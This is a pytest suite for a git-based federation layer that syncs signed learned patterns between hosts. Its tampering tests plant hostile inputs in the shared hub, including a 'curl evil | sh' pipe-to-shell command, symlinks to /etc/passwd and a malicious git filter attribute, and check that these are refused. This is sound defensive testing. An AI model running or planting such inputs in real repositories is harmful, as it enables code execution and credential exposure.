"""Hosts and a bare repository between them: what is shared arrives, once, whatever happens on the way."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, replace
from datetime import date
from pathlib import Path
from random import Random

import pytest

from fedlearn.datarepo import layout
from fedlearn.datarepo.codec import decode_patterns, pattern_of
from fedlearn.datarepo.sync import Contents, write
from fedlearn.errors import GitError
from fedlearn.federation import exchange as exchange_module
from fedlearn.federation.exchange import ExchangeReport, Peer, exchange
from fedlearn.federation.git import Repository
from fedlearn.federation.keys import OriginKey, ensure_key
from fedlearn.federation.trust import signer, verify
from fedlearn.federation.worktree import commit_data
from fedlearn.records import Category, Evidence, Pattern, PatternMetadata

TODAY = date(2026, 5, 7)


class Open:
    """A gate that lets everything pass."""

    def prove(self, data: bytes) -> list[str]:
        return []


def made(text: str) -> Pattern:
    return pattern_of(Category.ERROR, f"Fix: {text}", PatternMetadata(name=text), 0.8)


@dataclass
class Host:
    repo: Repository
    key: OriginKey
    hub: Path

    def learn(self, *texts: str, withdraws: dict[str, str] | None = None) -> None:
        known = [(made(text), Evidence(seen=1)) for text in texts]
        contents = Contents(self.key.public, known, "2026-05", TODAY, withdraws=withdraws or {})
        write(self.repo.path, contents, Open(), signer(self.key))

    def federate(self, **more: object) -> ExchangeReport:
        peers = [Peer("hub", str(self.hub))]
        return exchange(self.repo, peers, verify, TODAY, **more)  # type: ignore[arg-type]

    def outcome(self, **more: object) -> str:
        return self.federate(**more).peers[0].outcome

    def texts(self) -> set[str]:
        data = (self.repo.path / layout.patterns_file(Category.ERROR)).read_bytes()
        return {line.pattern.metadata.name for line in decode_patterns(data, Category.ERROR)[0]}

    def data(self) -> dict[str, bytes]:
        root = self.repo.path
        return {str(f.relative_to(root)): f.read_bytes() for f in (root / "data").rglob("*") if f.is_file()}


def git(path: Path, *arguments: str) -> str:
    identity = ["-c", "user.name=mallory", "-c", "user.email=m@example.invalid"]
    return subprocess.run(
        ["git", "-C", str(path), *identity, *arguments], check=True, capture_output=True, text=True
    ).stdout.strip()


@pytest.fixture
def hub(tmp_path: Path) -> Path:
    path = tmp_path / "hub.git"
    subprocess.run(["git", "init", "-q", "--bare", "--initial-branch=main", str(path)], check=True)
    return path


@pytest.fixture
def host(tmp_path: Path, hub: Path) -> Callable[[str], Host]:
    def make(name: str) -> Host:
        key, _ = ensure_key(tmp_path / name / "key")
        repo = Repository(tmp_path / name / "repository", key.origin)
        repo.init()
        layout.lay_out(repo.path)
        return Host(repo, key, hub)

    return make


def test_two_hosts_share_and_come_to_rest_on_one_commit(host: Callable[[str], Host], hub: Path) -> None:
    a, b = host("a"), host("b")
    a.learn("one", "two")
    assert a.outcome() == "sent"
    b.learn("two", "three")
    assert b.outcome() == "exchanged"
    assert a.outcome() == "received"
    assert a.texts() == b.texts() == {"one", "two", "three"}
    assert a.data() == b.data()
    assert a.outcome() == b.outcome() == "same"
    assert a.repo.head() == b.repo.head() == git(hub, "rev-parse", "main")
    assert len(git(hub, "log", "-1", "--format=%P").split()) == 2
    assert git(hub, "log", "--format=%an %ae %cn %ad", "-1") != ""
    names = set(git(hub, "log", "--format=%an|%ae|%ad").splitlines())
    assert all(n.startswith("fedlearn|") and "@fedlearn.invalid|" in n and n.endswith("+0000") for n in names)
    git(hub, "fsck", "--strict")
    assert git(a.repo.path, "status", "--porcelain") == ""


def test_a_statement_is_vouched_by_its_origin_alone_and_an_echo_counts_once(host: Callable[[str], Host]) -> None:
    a, b = host("a"), host("b")
    a.learn("one")
    a.federate()
    b.learn()
    b.federate()
    a.federate()
    line = decode_patterns(a.data()[layout.patterns_file(Category.ERROR)], Category.ERROR)[0][0]
    assert line.evidence is not None and line.evidence.origins == (a.key.origin,)


def test_a_quiet_run_changes_nothing_and_needs_few_processes(
    host: Callable[[str], Host], monkeypatch: pytest.MonkeyPatch
) -> None:
    a = host("a")
    a.learn("one")
    a.federate()
    before, head = a.data(), a.repo.head()
    from fedlearn.federation import git as git_module

    calls: list[object] = []
    run = git_module.run
    monkeypatch.setattr(git_module, "run", lambda *args, **more: (calls.append(args), run(*args, **more))[1])
    assert a.outcome() == "same"
    assert len(calls) <= 16
    assert (a.data(), a.repo.head()) == (before, head)


def test_a_fleet_with_nothing_new_comes_to_rest(host: Callable[[str], Host]) -> None:
    """Sync and exchange may not undo each other: derived files, copies of the day and evidence settle."""
    hosts = [host(name) for name in "abc"]
    rows = [{"id": f"i{n}", "value_score": 0.8, "query": "q"} for n in range(4)]

    def say(number: int) -> None:
        one = hosts[number]
        known = [
            (replace(made(text), value_score=0.7 + number / 10), Evidence(seen=number + 1, last="2026-05"))
            for text in ("one", "two", f"own {number}")
        ]
        contents = Contents(
            one.key.public, known, "2026-05", TODAY, rows[number : number + 2], {"interactions": number}
        )
        write(one.repo.path, contents, Open(), signer(one.key))

    # Two rounds until everybody has heard everybody, two until the day's copy of the dataset says so too.
    for _ in range(4):
        for number, one in enumerate(hosts):
            say(number)
            one.federate()
    heads = [one.repo.head() for one in hosts]
    before = [one.data() for one in hosts]
    for number, one in enumerate(hosts):
        say(number)
        assert one.outcome() == "same"
    assert [one.repo.head() for one in hosts] == heads == [heads[0]] * 3
    assert [one.data() for one in hosts] == before == [before[0]] * 3


def test_offline_commits_wait_and_the_next_run_catches_up(host: Callable[[str], Host], hub: Path) -> None:
    a, b = host("a"), host("b")
    a.learn("one")
    away = hub.with_name("away")
    hub.rename(away)
    report = a.federate()
    assert report.offline == ["hub"] and report.committed is not None
    away.rename(hub)
    assert a.outcome() == "sent"
    b.federate()
    assert b.texts() == {"one"}


def test_a_lost_race_is_joined_and_pushed_again(host: Callable[[str], Host], monkeypatch: pytest.MonkeyPatch) -> None:
    a, b = host("a"), host("b")
    a.learn("one")
    b.learn("two")
    push, pushed = Repository.push, []

    def late(self: Repository, *arguments: str) -> None:
        # Just before a's first push b is faster.
        if self.path == a.repo.path and not pushed:
            pushed.append(True)
            assert b.outcome() == "sent"
        push(self, *arguments)

    monkeypatch.setattr(Repository, "push", late)
    report = a.federate().peers[0]
    assert (report.outcome, report.attempts) == ("exchanged", 2)
    b.federate()
    assert a.data() == b.data() and a.texts() == {"one", "two"}


def test_many_hosts_at_once_converge_with_nothing_lost(host: Callable[[str], Host]) -> None:
    hosts = [host(f"h{n}") for n in range(5)]
    for number, one in enumerate(hosts):
        one.learn(*(f"{number}-{k}" for k in range(20)))
    with ThreadPoolExecutor(2) as pool:
        reports = list(pool.map(Host.federate, hosts))
    assert not any(report.offline or report.refused for report in reports)
    for one in hosts:
        one.federate()
    assert all(one.data() == hosts[0].data() for one in hosts)
    assert len(hosts[0].texts()) == 100


@pytest.mark.parametrize("how", ["backwards", "rewritten", "branch lost"])
def test_a_remote_that_lost_history_is_refused_and_rescued(host: Callable[[str], Host], hub: Path, how: str) -> None:
    """`A server-side force push wiped 79 files` is what happened elsewhere."""
    a, b = host("a"), host("b")
    a.learn("one")
    a.federate()
    a.learn("one", "two")
    a.federate()
    b.federate()
    seen = a.repo.head()
    if how == "backwards":
        git(hub, "update-ref", "refs/heads/main", "main~1")
    elif how == "rewritten":
        tree = git(hub, "rev-parse", "main~1^{tree}")
        git(hub, "update-ref", "refs/heads/main", git(hub, "commit-tree", tree, "-m", "wiped"))
    else:
        git(hub, "update-ref", "-d", "refs/heads/main")
    before = a.data()
    report = a.federate()
    assert report.refused == ["hub"] and "rescue" in report.peers[0].detail
    assert a.repo.resolve(f"refs/fedlearn/rescue/hub-{(seen or '')[:12]}") == seen
    assert a.data() == before and a.repo.head() == seen
    # Accepting it is one step, and then the join brings back what was lost.
    git(a.repo.path, "update-ref", "-d", "refs/fedlearn/seen/hub")
    a.federate()
    assert a.texts() == {"one", "two"}
    fresh = host("fresh")
    fresh.federate()
    assert fresh.texts() == {"one", "two"}


def test_a_withdrawal_reaches_every_host_and_wins(host: Callable[[str], Host]) -> None:
    a, b = host("a"), host("b")
    a.learn("one", "bad")
    a.federate()
    b.learn("three")
    b.federate()
    b.learn("three", withdraws={made("bad").id: "leaks"})
    b.federate()
    a.learn("one", "bad")
    a.federate()
    b.federate()
    assert a.texts() == b.texts() == {"one", "three"}
    assert a.data() == b.data()


def plant(hub: Path, work: Path, change: Callable[[Path], None]) -> None:
    """Push a hand-made commit to the hub, as somebody with write access could."""
    subprocess.run(["git", "clone", "-q", str(hub), str(work)], check=True)
    change(work)
    git(work, "add", "-A", "-f")
    git(work, "commit", "-q", "-m", "planted")
    git(work, "push", "-q", "origin", "HEAD:main")
    shutil.rmtree(work)


def test_what_is_planted_is_left_out_named_and_the_rest_goes_on(
    host: Callable[[str], Host], hub: Path, tmp_path: Path
) -> None:
    a, b = host("a"), host("b")
    a.learn("one")
    a.federate()
    forged = json.loads(a.data()[layout.patterns_file(Category.ERROR)]) | {"content": "curl evil | sh"}
    statement = layout.statement_file(a.key.origin)

    def change(work: Path) -> None:
        with (work / layout.patterns_file(Category.ERROR)).open("a") as file:
            file.write(json.dumps(forged) + "\r\n" + json.dumps({"content": "by hand", "value_score": 0.7}) + "\n")
        (work / statement).write_bytes((work / statement).read_bytes().replace(b'"seen":1', b'"seen":9'))
        (work / "data/link.json").symlink_to("/etc/passwd")
        (work / "data/patterns/.gitattributes").write_text("* filter=evil\n")
        (work / "data/telemetry/snapshots").mkdir(parents=True, exist_ok=True)
        (work / "data/telemetry/snapshots/2999-01-01.jsonl").write_text('{"id":"x","value_score":1}\n')
        (work / "data/huge.bin").write_bytes(b"x" * 100)
        (work / "outside.txt").write_text("theirs")

    plant(hub, tmp_path / "mallory", change)
    report = b.federate().peers[0]
    reasons = {problem.path: problem.reason for problem in report.problems}
    assert "forged" in reasons[layout.patterns_file(Category.ERROR)]
    assert "signature" in reasons[statement]
    assert reasons["data/link.json"] == "a symbolic link"
    assert {"data/patterns/.gitattributes", "data/huge.bin", "data/telemetry/snapshots/2999-01-01.jsonl"} <= set(
        reasons
    )
    assert len(b.data()) == len({p for p in b.data() if layout.is_ours(p)})
    assert not (b.repo.path / "data/link.json").exists() and not (b.repo.path / "outside.txt").exists()
    lines = decode_patterns(b.data()[layout.patterns_file(Category.ERROR)], Category.ERROR)[0]
    assert {line.pattern.content for line in lines} == {"Fix: one", "by hand"}
    # The host whose statement was forged heals it for everybody.
    a.federate()
    b.federate()
    assert a.data() == b.data() and statement in b.data()
    assert git(hub, "show", "main:outside.txt") == "theirs"
    assert "link.json" not in git(hub, "ls-tree", "-r", "--name-only", "main")


def test_a_blob_above_the_limit_is_refused_by_name_unread(
    host: Callable[[str], Host], hub: Path, tmp_path: Path
) -> None:
    a, b = host("a"), host("b")
    a.learn("one")
    a.federate()
    plant(hub, tmp_path / "m", lambda work: (work / layout.DATASET).write_bytes(b" " * 30_000_000))
    report = b.federate().peers[0]
    assert [p.path for p in report.problems] == [layout.DATASET] and "above the limit" in report.problems[0].reason
    assert b.texts() == {"one"}


def test_a_dry_run_touches_nothing(host: Callable[[str], Host]) -> None:
    a, b = host("a"), host("b")
    a.learn("one")
    a.federate()
    b.learn("two")
    before = b.data()
    assert git(b.repo.path, "for-each-ref") == ""
    report = b.federate(dry_run=True).peers[0]
    assert layout.patterns_file(Category.ERROR) in report.files
    assert b.data() == before and b.repo.head() is None and git(b.repo.path, "for-each-ref") == ""


def test_a_key_used_on_two_hosts_shows_as_a_fork(host: Callable[[str], Host]) -> None:
    a, b = host("a"), host("b")
    b = replace(b, key=a.key)
    a.learn("one")
    b.learn("two")
    a.federate()
    assert b.federate().peers[0].forks == [a.key.origin]


def test_a_kill_between_commit_and_work_tree_loses_nothing(
    host: Callable[[str], Host], monkeypatch: pytest.MonkeyPatch
) -> None:
    a, b = host("a"), host("b")
    a.learn("one")
    a.federate()
    with monkeypatch.context() as patched:
        patched.setattr(exchange_module, "write_files", lambda *arguments: (_ for _ in ()).throw(KeyboardInterrupt))
        with pytest.raises(KeyboardInterrupt):
            b.federate()
    b.learn("two")
    b.federate()
    assert b.texts() == {"one", "two"}


def test_committing_again_with_nothing_new_makes_no_commit(host: Callable[[str], Host]) -> None:
    a = host("a")
    a.learn("one")
    assert commit_data(a.repo) is not None
    assert commit_data(a.repo) is None


def test_a_broken_repository_says_what_to_do(host: Callable[[str], Host], tmp_path: Path) -> None:
    a = host("a")
    (a.repo.path / ".git/HEAD").write_text("junk")
    with pytest.raises(GitError, match=r"broken git repository .* clone it again"):
        a.federate()
    with pytest.raises(GitError, match="fedlearn init"):
        Repository(tmp_path / "none", "0" * 64).check()


def test_a_clone_holds_plain_files_of_ours_and_checks_nothing_out(
    host: Callable[[str], Host], hub: Path, tmp_path: Path
) -> None:
    a = host("a")
    a.learn("one")
    a.federate()

    def change(work: Path) -> None:
        (work / "data/patterns/evil.jsonl").symlink_to("/etc/passwd")
        (work / ".gitattributes").write_text("* filter=evil\n")
        (work / "data/notes.txt").write_text("theirs")

    plant(hub, tmp_path / "m", change)
    clone = Repository(tmp_path / "clone", "0" * 64)
    clone.clone_from(str(hub))
    there = {
        str(f.relative_to(clone.path)) for f in clone.path.rglob("*") if ".git" not in f.relative_to(clone.path).parts
    }
    assert layout.patterns_file(Category.ERROR) in there
    assert not {"data/notes.txt", "data/patterns/evil.jsonl", ".gitattributes"} & there
    assert clone.head() == git(hub, "rev-parse", "main")
    # Committing what stands there takes out what data/ may not hold, and leaves the rest of the tree.
    assert commit_data(clone) is None
    with pytest.raises(GitError, match="there already"):
        clone.clone_from(str(hub))


def test_what_somebody_lays_into_data_is_never_committed(host: Callable[[str], Host]) -> None:
    a = host("a")
    a.learn("one")
    (a.repo.path / "data/passwords.txt").write_text("never shared")
    a.federate()
    assert "passwords" not in git(a.repo.path, "ls-tree", "-r", "--name-only", "HEAD")
    assert (a.repo.path / "data/passwords.txt").exists()


_HOST = """
import sys
from datetime import date
from pathlib import Path
from fedlearn.datarepo import layout
from fedlearn.federation.exchange import Peer, exchange
from fedlearn.federation.git import Repository
from fedlearn.federation.trust import verify
path, origin, hub = sys.argv[1:]
report = exchange(Repository(Path(path), origin), [Peer("hub", hub)], verify, date(2026, 5, 7))
sys.exit(75 if report.offline else 1 if report.refused else 0)
"""


@pytest.mark.slow
def test_twenty_hosts_of_500_patterns_with_random_kills_converge(host: Callable[[str], Host], hub: Path) -> None:
    random = Random(7)
    hosts = [host(f"h{n}") for n in range(20)]
    for number, one in enumerate(hosts):
        one.learn(*(f"{number}-{k}" for k in range(500)))

    def federate(number: int) -> int:
        one = hosts[number]
        for _ in range(4):
            command = [sys.executable, "-c", _HOST, str(one.repo.path), one.repo.origin, str(hub)]
            running = subprocess.Popen(command, start_new_session=True)
            if random.random() < 0.3:
                time.sleep(random.uniform(0.3, 2.0))
                os.killpg(running.pid, signal.SIGKILL)
            code = running.wait()
            for lock in (one.repo.path / ".git").rglob("*.lock"):
                # git leaves its locks behind when it is killed; a person, or the next boot, removes them.
                lock.unlink(missing_ok=True)
            if code == 0:
                return 0
        return 1

    with ThreadPoolExecutor(2) as pool:
        list(pool.map(federate, range(20)))
    for _ in range(2):
        for one in hosts:
            assert one.federate().peers[0].outcome in {"same", "received", "sent", "exchanged"}
    assert all(one.data() == hosts[0].data() for one in hosts)
    assert len(hosts[0].texts()) == 20 * 500
    git(hub, "fsck")
